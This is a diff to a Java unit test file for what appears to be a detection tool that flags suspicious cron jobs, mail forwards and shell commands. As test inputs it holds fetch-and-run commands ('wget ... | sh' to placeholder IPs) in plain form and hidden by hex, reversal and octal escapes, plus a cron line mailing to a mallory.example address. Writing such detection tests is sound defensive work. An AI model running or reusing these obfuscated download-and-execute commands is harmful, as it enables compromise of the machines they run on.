@@ -267,9 +267,47 @@ final class FeaturesTest {
         String host = "C:\\Windows\\System32\\svchost.exe";
         Map<String, String> service = Map.of(
                 "location", "windows.service", "target", host, "value", host + " -k netsvcs -p (auto, LocalSystem)");
-        assertTrue(Features.marked(service, "a").command().isEmpty());
+        assertTrue(Features.marked(service, "a").commands().isEmpty());
         assertFalse(of(service).contains(Feature.CONTENT));
         assertFalse(CommandWords.of("0 4 * * * root /usr/bin/updatedb").tells());
+    }
+
+    private static Set<String> addresses(Map<String, String> fields, boolean marked) {
+        Features features = marked ? Features.marked(fields, "a") : Features.seen(fields, "a");
+        return features.values().getOrDefault(Feature.ADDRESS, Set.of());
+    }
+
+    @Test
+    void anAddressOfMailIsAFeatureAndOneOfASystemIsNot() {
+        Map<String, String> fields = Map.of(
+                "location", "linux.cron.system",
+                "target", "/usr/bin/mail",
+                "value",
+                        "0 3 * * * root mail -s x System.Update@mailbox.mallory.example root@localhost.localdomain git@github.com");
+        assertEquals(
+                Set.of("system.update@mailbox.mallory.example", "mailbox.mallory.example"), addresses(fields, true));
+        Map<String, String> forward =
+                Map.of("location", "linux.mail.forward", "value", "system.update@mailbox.mallory.example");
+        assertTrue(addresses(forward, false).contains("system.update@mailbox.mallory.example"));
+    }
+
+    /** The hexadecimal is of xxd -p, the Base64 of raw deflate by python's zlib. */
+    @Test
+    void whatStandsEncodedIsACommandByItself() {
+        CommandWords plain = CommandWords.of("wget -q -O - http://203.0.113.66/unk.sh | sh");
+        for (String encoded : List.of(
+                "echo 77676574202d71202d4f202d20687474703a2f2f3139382e35312e3130302e32392f612e7368207c207368203e202f6465762f6e756c6c20323e2631 | xxd -r -p | sh",
+                "echo '1&>2 llun/ved/ > hs | hs.a/92.001.15.891//:ptth - O- q- tegw' | rev | bash",
+                "printf 'wget -q -O - http:\\57\\57198.51.100.29\\57a.sh' | bash")) {
+            assertTrue(
+                    CommandWords.each(encoded).stream()
+                            .anyMatch(each -> each.telling().equals(plain.telling())),
+                    CommandWords.each(encoded).toString());
+        }
+        assertEquals(
+                1,
+                CommandWords.each("wget -q -O - http://203.0.113.66/unk.sh | sh")
+                        .size());
     }
 
     /** The review's R3, R5 and E9: the account of a right that was marked, in by another right or by a group. */
